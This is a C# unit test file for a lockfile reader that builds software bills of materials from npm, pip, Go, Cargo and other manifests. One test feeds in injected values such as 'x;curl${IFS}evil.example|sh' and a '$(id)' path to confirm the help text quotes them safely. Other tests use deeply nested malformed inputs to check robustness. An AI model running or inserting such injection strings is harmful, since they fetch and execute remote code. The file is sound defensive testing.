using System.Globalization;
using System.Text;
using Signalbox.Evidence.Sboms;

namespace Signalbox.Tests.Evidence.Sboms;

/// <summary>What the golden folders do not make plain: scopes, resolution, gaps, and hostile files.</summary>
public sealed class LockfileReaderTests
{
    [Fact]
    public void Npm_ResolvesAsNodeDoes_FromTheInnermostFolder()
    {
        var inventory = SbomCase.Read("npm-3");
        Assert.Equal(["pkg:npm/round@1.9.0"], inventory.Component("pkg:npm/%40acme/money@2.1.0").DependsOn);
        Assert.Equal(["pkg:npm/%40acme/money@2.1.0", "pkg:npm/checker@1.0.0?download_url=https:%2F%2Ffiles.example.com%2Fchecker.tgz", "pkg:npm/fork@0.1.0?vcs_url=git%2Bssh:%2F%2Fgithub.com%2Facme%2Ffork.git%400123456789abcdef0123456789abcdef01234567", "pkg:npm/native@1.0.0", "pkg:npm/round@2.0.0"], inventory.Direct);
        Assert.Empty(inventory.Gaps);
    }

    [Fact]
    public void NpmOfVersion1_ResolvesTheNestedFirst()
    {
        var inventory = SbomCase.Read("npm-1");
        Assert.Equal(["pkg:npm/b@2.0.0", "pkg:npm/c@1.1.0"], inventory.Component("pkg:npm/a@1.0.0").DependsOn);
        Assert.Equal(ComponentScope.Excluded, inventory.Component("pkg:npm/b@1.0.0").Scope);
        Assert.Equal("pkg:npm/%40acme/d@3.0.0", inventory.Components.Single(component => component.Scope == ComponentScope.Optional).Reference);
    }

    [Theory]
    [InlineData("yarn-classic", "pkg:npm/%40acme/money@2.1.0", "Required")]
    [InlineData("yarn-classic", "pkg:npm/native@1.0.0", "Optional")]
    [InlineData("yarn-classic", "pkg:npm/lint@1.2.3", "Excluded")]
    [InlineData("yarn-classic", "pkg:npm/round@1.9.0", "Required")]
    [InlineData("pnpm-9", "pkg:npm/checker@1.0.0", "Excluded")]
    [InlineData("pnpm-9", "pkg:npm/native@1.0.0", "Optional")]
    [InlineData("pnpm-9", "pkg:npm/round@1.9.0", "Required")]
    [InlineData("pnpm-6", "pkg:npm/checker@1.0.0", "Excluded")]
    [InlineData("pip", "pkg:pypi/pytest@8.0.0", "Excluded")]
    [InlineData("poetry", "pkg:pypi/pytest@8.0.0", "Excluded")]
    [InlineData("uv", "pkg:pypi/sniffio@1.3.0", "Optional")]
    [InlineData("uv", "pkg:pypi/sniffio@1.3.1", "Required")]
    [InlineData("pipenv", "pkg:pypi/pytest@8.0.0", "Excluded")]
    [InlineData("gradle", "pkg:maven/com.example.test/check@1.0", "Excluded")]
    [InlineData("gradle", "pkg:maven/com.example.plugin/plugin@3.0", "Excluded")]
    [InlineData("composer", "pkg:composer/acme/check@1.0.0", "Excluded")]
    [InlineData("several", "pkg:npm/round@1.9.0", "Required")]
    public void Scope_IsWhatTheComponentIsNeededFor(string name, string purl, string scope) => Assert.Equal(scope, SbomCase.Read(name).Component(purl).Scope.ToString());

    [Theory]
    [InlineData("yarn-berry", "pkg:npm/%40acme/money@2.1.0", "pkg:npm/round@1.9.0")]
    [InlineData("pnpm-9", "pkg:npm/%40acme/money@2.1.0", "pkg:npm/round@1.9.0")]
    [InlineData("pnpm-6", "pkg:npm/%40acme/money@2.1.0", "pkg:npm/round@1.9.0")]
    [InlineData("pnpm-5", "pkg:npm/%40acme/money@2.1.0", "pkg:npm/round@1.9.0")]
    [InlineData("nuget", "pkg:nuget/Acme.Money@2.1.0", "pkg:nuget/Acme.Native@1.0.0 pkg:nuget/Acme.Round@1.9.0")]
    [InlineData("poetry", "pkg:pypi/click@8.1.7", "pkg:pypi/colorama@0.4.6")]
    [InlineData("uv", "pkg:pypi/anyio@4.4.0", "pkg:pypi/idna@3.7 pkg:pypi/sniffio@1.3.1")]
    [InlineData("bundler", "pkg:gem/nokogiri@1.16.0?platform=x86_64-linux", "pkg:gem/racc@1.7.3")]
    [InlineData("composer", "pkg:composer/acme/money@v2.1.0", "pkg:composer/acme/round@dev-main?vcs_url=git%2Bhttps:%2F%2Fgit.example.com%2Fround.git%400123456789abcdef0123456789abcdef01234567")]
    public void Edges_LeadToWhatIsInstalled(string name, string from, string to) => Assert.Equal(to.Split(' '), SbomCase.Read(name).Component(from).DependsOn);

    [Theory]
    [InlineData("go", "pkg:golang/github.com/acme/money@v2.1.0%2Bincompatible", "h1:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=")]
    [InlineData("go", "pkg:golang/example.com/fork/v2@v2.0.1", "h1:AbpHGcgLb+kRsJGnwFEktk7uzpZOCcBY74+YBdrKVGs=")]
    [InlineData("yarn-berry", "pkg:npm/%40acme/money@2.1.0", "10c0/0123456789abcdef")]
    public void ChecksumOfNoFile_IsNoHash(string name, string purl, string checksum)
    {
        var component = SbomCase.Read(name).Component(purl);
        Assert.Empty(component.Hashes);
        Assert.Equal(checksum, component.Checksum);
    }

    [Fact]
    public void Go_LeavesOutWhatAFolderStandsFor() => Assert.DoesNotContain(SbomCase.Read("go").Components, component => component.Reference.Contains("local", StringComparison.Ordinal));

    [Fact]
    public void Secrets_AreNotTakenOver()
    {
        foreach (var name in Cases.Of("sboms")) Assert.DoesNotContain("secret", Encoding.UTF8.GetString(SbomCase.Write(SbomCase.Read(name))), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("maven", "pom.xml", "it asks for packages, and Maven pins them nowhere")]
    [InlineData("several", "broken/package-lock.json", "it is not JSON as it should be, at line 2")]
    [InlineData("several", "unlocked/package.json", "it asks for packages that no package-lock.json pins")]
    [InlineData("go-before-1.17", "go.mod", "it is of before Go 1.17 and names only some of the modules that it needs")]
    [InlineData("pip", "requirements.txt", "1 of its requirements are pinned to no version, such as 'loose>=1.0'; expected name==version")]
    [InlineData("pip", "requirements.txt", "it takes in 'more.in', which was not read")]
    [InlineData("pipenv", "Pipfile.lock", "'without' has no version")]
    public void WhatIsNotKnown_IsAGap(string name, string path, string message)
    {
        var inventory = SbomCase.Read(name);
        Assert.Contains(inventory.Gaps, gap => (gap.Path, gap.Message) == (path, message));
        Assert.False(inventory.IsComplete);
        Assert.Contains("\"aggregate\": \"incomplete\"", Encoding.UTF8.GetString(SbomCase.Write(inventory)), StringComparison.Ordinal);
    }

    public static TheoryData<string, string, string, string> Above => new()
    {
        // one for a tool at the top, and a service that is no member
        { "package-lock.json", """{"lockfileVersion":3,"packages":{"":{"devDependencies":{"husky":"9"}},"web":{},"node_modules/husky":{"version":"9.0.0"}}}""", "package.json", """{"dependencies":{"express":"4"}}""" },
        { "pnpm-lock.yaml", "lockfileVersion: '9.0'\nimporters:\n  .: {}\n  web: {}\npackages: {}\n", "package.json", """{"dependencies":{"express":"4"}}""" },
        { "yarn.lock", "__metadata:\n  version: 8\n\"web@workspace:web\":\n  version: 0.0.0\n  resolution: \"web@workspace:web\"\n", "package.json", """{"dependencies":{"express":"4"}}""" },
        { "yarn.lock", "# yarn lockfile v1\n", "package.json", """{"dependencies":{"express":"4"}}""" },
        { "Cargo.lock", "[[package]]\nname = \"web\"\nversion = \"0.1.0\"\n", "Cargo.toml", "[package]\nname = \"api\"\n[dependencies]\nserde = \"1\"\n" },
        { "uv.lock", "version = 1\n[[package]]\nname = \"web\"\nversion = \"0\"\nsource = { editable = \"web\" }\n", "pyproject.toml", "[project]\ndependencies = [\"flask\"]\n" },
        { "poetry.lock", "[[package]]\nname = \"web\"\nversion = \"0\"\n[package.source]\ntype = \"directory\"\nurl = \"web\"\n[metadata]\nlock-version = \"2.0\"\n", "pyproject.toml", "[project]\ndependencies = [\"flask\"]\n" },
        { "requirements.txt", "flask==1.0\n", "pyproject.toml", "[project]\ndependencies = [\"flask\"]\n" },
        { "Pipfile.lock", """{"_meta":{},"default":{}}""", "Pipfile", "[packages]\nflask = \"*\"\n" },
        { "gradle.lockfile", "empty=\n", "build.gradle", "dependencies { implementation 'a:b:1' }" },
        { "packages.lock.json", """{"version":1,"dependencies":{}}""", "api.csproj", "<Project><ItemGroup><PackageReference Include='A' /></ItemGroup></Project>" },
        { "composer.lock", """{"packages":[],"packages-dev":[]}""", "composer.json", """{"require":{"a/b":"1"}}""" },
        { "Gemfile.lock", "GEM\n  specs:\n", "Gemfile", "gem 'rails'\n" },
    };

    /// <summary>A list that is silently short is worse than none.</summary>
    [Theory]
    [MemberData(nameof(Above))]
    public void LockfileAbove_ThatNamesNoMember_PinsNothing(string lockfile, string locked, string manifest, string asked)
    {
        (string, string)[] beside = lockfile == "yarn.lock" ? [("package.json", """{"workspaces":["web","packages/*"]}""")] : [];
        Assert.Contains(SbomCase.Read([(lockfile, locked), ($"api/{manifest}", asked), .. beside]).Gaps, gap => gap.Path == $"api/{manifest}" && gap.Message.StartsWith("it asks for packages that no", StringComparison.Ordinal));
        // as a member it is pinned there, and in its own folder always
        if (locked.Contains("web", StringComparison.Ordinal))
            Assert.DoesNotContain(SbomCase.Read([(lockfile, locked), ($"web/{manifest}", asked.Replace("api", "web", StringComparison.Ordinal)), .. beside]).Gaps, gap => gap.Path == $"web/{manifest}");
        Assert.DoesNotContain(SbomCase.Read(($"api/{lockfile}", locked), ($"api/{manifest}", asked)).Gaps, gap => gap.Path == $"api/{manifest}");
    }

    [Theory]
    [InlineData("""{"workspaces":["packages/*","!packages/left"]}""", "packages/api", true)]
    [InlineData("""{"workspaces":{"packages":["./packages/*/"]}}""", "packages/api", true)]
    [InlineData("""{"workspaces":["packages/*","!packages/left"]}""", "packages/left", false)]
    [InlineData("""{"workspaces":["packages/*"]}""", "packages/api/deep", false)]
    [InlineData("""{"workspaces":["packages/**"]}""", "packages/api/deep", true)]
    [InlineData("""{"workspaces":7}""", "packages/api", false)]
    [InlineData("""{}""", "packages/api", false)]
    public void YarnClassic_NamesItsMembersInTheManifest(string root, string folder, bool isMember)
    {
        var gaps = SbomCase.Read(("yarn.lock", "# yarn lockfile v1\n"), ("package.json", root), ($"{folder}/package.json", """{"dependencies":{"express":"4"}}""")).Gaps;
        Assert.Equal(isMember ? [] : [$"{folder}/package.json"], gaps.Select(gap => gap.Path));
    }

    /// <summary>How Pipenv recommends to take a repository: other people's code by its commit.</summary>
    [Fact]
    public void Pipenv_RepositoryInPlace_IsAComponent()
    {
        var inventory = SbomCase.Read(("Pipfile.lock", """{"_meta":{},"default":{"requests":{"editable":true,"git":"https://github.com/psf/requests.git","ref":"0123456789abcdef0123456789abcdef01234567"},"own":{"editable":true,"path":"."}}}"""));
        Assert.Equal("pkg:pypi/requests?vcs_url=git%2Bhttps:%2F%2Fgithub.com%2Fpsf%2Frequests.git%400123456789abcdef0123456789abcdef01234567", Assert.Single(inventory.Components).Reference);
        Assert.Empty(inventory.Gaps);
    }

    /// <summary>A line is pasted by somebody else than who wrote the file.</summary>
    [Theory]
    [InlineData("requirements.txt", "-r x;curl${IFS}evil.example|sh\n", "cp 'x;curl${IFS}evil.example|sh' requirements-more.txt")]
    [InlineData("requirements.txt", "-r -t.txt\n", "cp ./-t.txt requirements-more.txt")]
    [InlineData("$(id)/requirements.txt", "loose>=1\n", "pip-compile --generate-hashes --output-file '$(id)/requirements.txt' '$(id)/requirements.in'")]
    [InlineData("-x/requirements.txt", "-r more.in\n", "cp ./-x/more.in ./-x/requirements-more.txt")]
    public void Help_QuotesWhatAFileSays(string path, string text, string help) => Assert.Equal(help, Assert.Single(SbomCase.Read((path, text)).Gaps).Help);

    public static TheoryData<string> Lockfiles => ["package-lock.json", "yarn.lock", "pnpm-lock.yaml", "packages.lock.json", "poetry.lock", "uv.lock", "Pipfile.lock", "go.mod", "Cargo.lock", "gradle.lockfile", "Gemfile.lock", "composer.lock"];

    [Theory]
    [MemberData(nameof(Lockfiles))]
    public void HostileFile_IsOneGap(string path)
    {
        string[] texts =
        [
            "\0", "{", "[", "[[", "]]", "{}", "[]", "null", "\"x\"", "x", "<a/>", new string('[', 100_000), new string('{', 100_000), string.Concat(Enumerable.Repeat("{\"a\":", 50_000)), "{\"packages\":7}", "{\"dependencies\":[1]}",
            "a = \"\\ud800\"", "a: &a [*a]", "__metadata:\n  version: 8\n\"\\ud800@npm:1\":\n  resolution: \"\\ud800@npm:1\"\n  version: 1\n", "[[package]]\nname = 1\nversion = []\n", "a = [" + new string('[', 100_000),
        ];
        foreach (var text in texts)
        {
            var inventory = SbomCase.Read((path, text));
            Assert.DoesNotContain(inventory.Gaps, gap => gap.Message.StartsWith(InventoryReader.Unforeseen, StringComparison.Ordinal));
            Assert.True(inventory.Gaps.Count <= 1 && inventory.Components.Count <= 1, text);
            Assert.True(SbomCase.ReadAgain(inventory).Valid);
        }
    }

    [Fact]
    public void Circle_IsWalkedOnce_AndReachedFromTheProject()
    {
        var inventory = SbomCase.Read(("package-lock.json", """{"lockfileVersion":3,"packages":{"node_modules/a":{"version":"1","dependencies":{"b":"1"}},"node_modules/b":{"version":"1","dependencies":{"a":"1","b":"1"}}}}"""));
        Assert.Equal(["pkg:npm/a@1"], inventory.Direct);
        Assert.Equal(["pkg:npm/a@1", "pkg:npm/b@1"], inventory.Component("pkg:npm/b@1").DependsOn);
    }

    [Fact]
    public void Limits_RefuseTheFile()
    {
        var limits = new LockLimits(MaxBytes: 1000, MaxComponents: 3, MaxEdges: 3, MaxTextLength: 50, MaxDepth: 10);
        Assert.Contains("larger than 1,000 bytes", Refused(new string(' ', 1001), limits), StringComparison.Ordinal);
        Assert.Contains("more than 3 packages", Refused(Packages(4), limits), StringComparison.Ordinal);
        Assert.Contains("characters; expected at most 50", Refused("{\"packages\":{\"node_modules/" + new string('a', 60) + "\":{\"version\":\"1\"}}}", limits), StringComparison.Ordinal);
        Assert.Contains("not JSON", Refused("{\"packages\":{\"node_modules/a\":" + new string('[', 20) + new string(']', 20) + "}}", limits), StringComparison.Ordinal);
    }

    private static string Packages(int count) =>
        "{\"packages\":{" + string.Join(',', Enumerable.Range(0, count).Select(i => string.Create(CultureInfo.InvariantCulture, $"\"node_modules/p{i}\":{{\"version\":\"1\"}}"))) + "}}";

    private static string Refused(string text, LockLimits limits) =>
        Assert.Single(InventoryReader.Read(["package-lock.json"], _ => Encoding.UTF8.GetBytes(text), limits).Gaps).Message;

    /// <summary>A lockfile above is for a manifest only where one of the two says so.</summary>
    [Theory]
    [InlineData("package-lock.json", "{\"lockfileVersion\":3,\"packages\":{\"\":{},\"web\":{\"dependencies\":{\"a\":\"1\"}}}}", "{}", true)]
    [InlineData("package-lock.json", "{\"lockfileVersion\":3,\"packages\":{\"\":{}}}", "{}", false)]
    // npm has workspaces since it writes version 2
    [InlineData("package-lock.json", "{\"lockfileVersion\":1}", "{\"workspaces\":[\"we*\"]}", false)]
    [InlineData("yarn.lock", "# yarn lockfile v1\n", "{\"workspaces\":{\"packages\":[\"web\"]}}", true)]
    [InlineData("yarn.lock", "# yarn lockfile v1\n", "{\"workspaces\":[\"packages/*\"]}", false)]
    [InlineData("yarn.lock", "__metadata:\n  version: 8\n\"web@workspace:web\":\n  version: 0.0.0-use.local\n  resolution: \"web@workspace:web\"\n", "{}", true)]
    [InlineData("pnpm-lock.yaml", "lockfileVersion: '9.0'\nimporters:\n  .: {}\n  web:\n    dependencies: {}\n", "{}", true)]
    [InlineData("pnpm-lock.yaml", "lockfileVersion: '9.0'\nimporters:\n  .: {}\n", "{}", false)]
    public void AProjectWithinAProject_IsPinnedOnlyWhereTheLockfileAboveIsForIt(string lockfile, string text, string top, bool pinned)
    {
        var files = new Dictionary<string, string> { [lockfile] = text, ["package.json"] = top, ["web/package.json"] = "{\"dependencies\":{\"a\":\"^1\"}}" };
        var gaps = InventoryReader.Read(files.Keys, path => Encoding.UTF8.GetBytes(files[path])).Gaps;
        string[] expected = pinned ? [] : ["web/package.json"];
        Assert.Equal(expected, gaps.Select(gap => gap.Path));
    }

    [Theory]
    [InlineData("Cargo.lock", "version = 4\n[[package]]\nname = \"web\"\nversion = \"0.1.0\"\n", "Cargo.toml", "[package]\nname = \"web\"\n[dependencies]\na = \"1\"\n", true)]
    [InlineData("Cargo.lock", "version = 4\n[[package]]\nname = \"other\"\nversion = \"0.1.0\"\n", "Cargo.toml", "[package]\nname = \"web\"\n[dependencies]\na = \"1\"\n", false)]
    [InlineData("uv.lock", "version = 1\n[[package]]\nname = \"web\"\nversion = \"0.1.0\"\nsource = { editable = \"web\" }\n", "pyproject.toml", "[project]\nname = \"web\"\ndependencies = [\"a\"]\n", true)]
    [InlineData("uv.lock", "version = 1\n", "pyproject.toml", "[project]\nname = \"web\"\ndependencies = [\"a\"]\n", false)]
    [InlineData("composer.lock", "{\"packages\":[]}", "composer.json", "{\"require\":{\"a/b\":\"1\"}}", false)]
    public void AProjectWithinAProject_OfOtherLanguages(string lockfile, string text, string manifest, string asks, bool pinned)
    {
        var files = new Dictionary<string, string> { [lockfile] = text, [$"web/{manifest}"] = asks };
        var gaps = InventoryReader.Read(files.Keys, path => Encoding.UTF8.GetBytes(files[path])).Gaps;
        string[] expected = pinned ? [] : [$"web/{manifest}"];
        Assert.Equal(expected, gaps.Select(gap => gap.Path));
    }

    [Fact]
    public void LockfileThatMayNotBeOpened_IsAGap()
    {
        var inventory = InventoryReader.Read(["a/yarn.lock", "b/go.mod"], path => path[0] == 'a' ? throw new UnauthorizedAccessException() : "module b\ngo 1.24\n"u8.ToArray());
        Assert.Equal("it may not be opened", Assert.Single(inventory.Gaps).Message);
        Assert.Single(inventory.Lockfiles);
    }

    [Fact]
    public void LargeLockfile_IsReadSoon()
    {
        var packages = string.Join(',', Enumerable.Range(0, 20_000).Select(i => string.Create(CultureInfo.InvariantCulture, $"\"node_modules/p{i}\":{{\"version\":\"1.0.{i}\",\"dependencies\":{{\"p{(i + 1) % 20_000}\":\"*\",\"p{(i * 7) % 20_000}\":\"*\"}}}}")));
        var before = ThreadTime.Used;
        Assert.Equal(20_000, SbomCase.Read(("package-lock.json", $"{{\"lockfileVersion\":3,\"packages\":{{{packages}}}}}")).Components.Count);
        Assert.InRange(ThreadTime.Used - before, TimeSpan.Zero, TimeSpan.FromSeconds(10));
    }
}
